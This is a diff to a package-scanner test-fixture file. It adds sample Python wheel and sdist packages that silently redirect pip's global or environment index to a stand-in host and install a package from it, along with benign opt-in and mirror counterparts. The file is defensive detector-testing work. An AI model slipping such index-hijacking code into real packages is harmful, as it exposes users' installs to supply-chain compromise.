@@ -73,6 +73,20 @@ export const samples: Samples = {
       expected: at('package-install', 'high', 3),
     },
     {
+      name: 'another index for all projects when the module is loaded',
+      files: wheel(
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', '--user', 'set', 'global.index-url', 'https://index.weir.test/simple'])\n",
+      ),
+      expected: at('package-source', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'another index that the environment of a setup script names',
+      files: sdist(
+        "import os\nfrom setuptools import setup\nos.environ['PIP_INDEX_URL'] = 'https://index.weir.test/simple'\nos.system('pip install other')\nsetup(name='own')\n",
+      ),
+      expected: at('package-install', 'high', 4),
+    },
+    {
       name: 'another runtime at each start of Python',
       filename: 'own-1.0-py3-none-any.whl',
       files: {
@@ -199,6 +213,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'another index for all projects, when somebody asks for it',
+      wheel(
+        "import subprocess\n\n\ndef configure(address='https://index.weir.test/simple'):\n    subprocess.run(['pip', 'config', 'set', 'global.index-url', address])\n",
+      ),
+    ),
+    quiet(
+      'a mirror for all projects',
+      wheel(
+        "import subprocess\nsubprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://mirrors.weir.test/simple'])\n",
+      ),
+    ),
     quiet(
       'a host that the environment names',
       wheel('import os, socket\nFOUND = socket.getaddrinfo(os.environ.get("OWN_AGENT"), 80)\nprint(FOUND)\n'),
